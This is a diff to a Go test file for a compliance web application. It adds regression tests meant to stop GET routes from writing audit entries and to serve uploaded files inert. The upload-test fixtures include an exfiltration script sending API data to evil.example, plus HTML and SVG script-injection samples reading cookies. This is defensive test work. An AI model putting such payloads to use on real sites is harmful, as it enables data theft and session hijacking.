@@ -3,10 +3,13 @@ package web
 import (
 	"bytes"
 	"context"
+	"encoding/json"
+	"fmt"
 	"io"
 	"io/fs"
 	"mime/multipart"
 	"net/http"
+	"net/url"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -246,5 +249,104 @@ func TestUploadFormsSendTheTokenFirst(t *testing.T) {
 	}
 	if n == 0 {
 		t.Fatal("no upload form found")
+	}
+}
+
+// TestNoAuditWritesFromGET is finding 9's last item: GET requests wrote
+// audit entries, so a page on another site could make an auditor's
+// browser add entries. Every GET route, called by an admin with real ids
+// where a download needs them, leaves the organization's trail and the
+// accounts' trail as they were; the downloads are POSTs.
+func TestNoAuditWritesFromGET(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, Config{})
+	e.seedDemo()
+	admin := e.users[store.RoleAdmin]
+	c, csrf := e.login(admin)
+	r := e.upload(c, "/api/v1/orgs/alpha/controls/vulnerability-scanning/evidence", map[string]string{"collected": "2026-10-15"},
+		[][2]string{{"scan.txt", "scan\n"}}, map[string]string{"X-CSRF-Token": csrf})
+	var res UploadResult
+	if r.StatusCode != http.StatusCreated || json.Unmarshal([]byte(r.Body), &res) != nil || len(res.Added) != 1 {
+		t.Fatalf("upload: %d %s", r.StatusCode, r.Body)
+	}
+	ws, _ := e.st.Org(e.orgA).Workspace(context.Background())
+	real := map[string]string{"format": "csv", "kind": "ssp", "fw": "soc2"}
+	ids := map[string]string{"evidence": res.Added[0].ID, "agreements": ws.Agreements[0].ID, "systems": ws.Systems[0].ID,
+		"risks": ws.Risks[0].ID, "incidents": ws.Incidents[0].ID, "controls": "vulnerability-scanning"}
+	heads := func() string {
+		h, _ := e.st.Org(e.orgA).AuditHead(context.Background())
+		a, _ := e.st.AccountHead(context.Background())
+		return fmt.Sprint(h, a)
+	}
+	for _, rt := range Routes() {
+		if rt.Method != http.MethodGet || rt.Role == Public {
+			continue
+		}
+		path := wildcard.ReplaceAllStringFunc(strings.ReplaceAll(rt.Pattern, "{$}", ""), func(w string) string {
+			name := wildcard.FindStringSubmatch(w)[1]
+			switch {
+			case name == "org":
+				return slugA
+			case real[name] != "":
+				return real[name]
+			case name == "id":
+				for section, id := range ids {
+					if strings.Contains(rt.Pattern, "/"+section+"/") {
+						return url.PathEscape(id)
+					}
+				}
+			}
+			return "sample"
+		})
+		before := heads()
+		resp := e.get(c, path)
+		if after := heads(); after != before {
+			t.Errorf("GET %s (%d) wrote to a trail: %s → %s", path, resp.StatusCode, before, after)
+		}
+	}
+	// And the downloads themselves are recorded when POSTed.
+	before := heads()
+	if r := e.fetch(c, csrf, "/orgs/alpha/evidence/"+res.Added[0].ID+"/file"); r.StatusCode != 200 {
+		t.Fatalf("download: %d", r.StatusCode)
+	}
+	if heads() == before {
+		t.Error("the POSTed download was not recorded")
+	}
+}
+
+// TestUploadedFilesServedInert is finding 9's fourth item: an uploaded
+// .js file was served as a same-origin script. Only images and PDF (and
+// documents a browser never runs) keep their type; everything else is
+// served as bytes, as an attachment, sandboxed.
+func TestUploadedFilesServedInert(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, Config{})
+	e.seedDemo()
+	c, csrf := e.login(e.users[store.RoleEditor])
+	files := [][2]string{
+		{"steal.js", "fetch('/api/v1/orgs').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))"},
+		{"page.html", "<script>alert(document.cookie)</script>"},
+		{"logo.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`},
+		{"scan.png", "\x89PNG\r\n\x1a\n...."},
+		{"report.pdf", "%PDF-1.4 ..."},
+	}
+	r := e.upload(c, "/api/v1/orgs/alpha/controls/vulnerability-scanning/evidence", map[string]string{"collected": "2026-10-16"}, files, map[string]string{"X-CSRF-Token": csrf})
+	var res UploadResult
+	if r.StatusCode != http.StatusCreated || json.Unmarshal([]byte(r.Body), &res) != nil || len(res.Added) != len(files) {
+		t.Fatalf("upload: %d %s", r.StatusCode, r.Body)
+	}
+	au, atok := e.login(e.users[store.RoleAuditor])
+	want := map[string]string{".js": "application/octet-stream", ".html": "application/octet-stream", ".svg": "application/octet-stream",
+		".png": "image/png", ".pdf": "application/pdf"}
+	for _, ev := range res.Added {
+		dl := e.fetch(au, atok, "/orgs/alpha/evidence/"+ev.ID+"/file")
+		ext := filepath.Ext(ev.File)
+		if got := dl.Header.Get("Content-Type"); got != want[ext] {
+			t.Errorf("%s served as %q, want %q", ev.File, got, want[ext])
+		}
+		if !strings.HasPrefix(dl.Header.Get("Content-Disposition"), "attachment;") || dl.Header.Get("X-Content-Type-Options") != "nosniff" ||
+			!strings.Contains(dl.Header.Get("Content-Security-Policy"), "sandbox") {
+			t.Errorf("%s: headers %v", ev.File, dl.Header)
+		}
 	}
 }
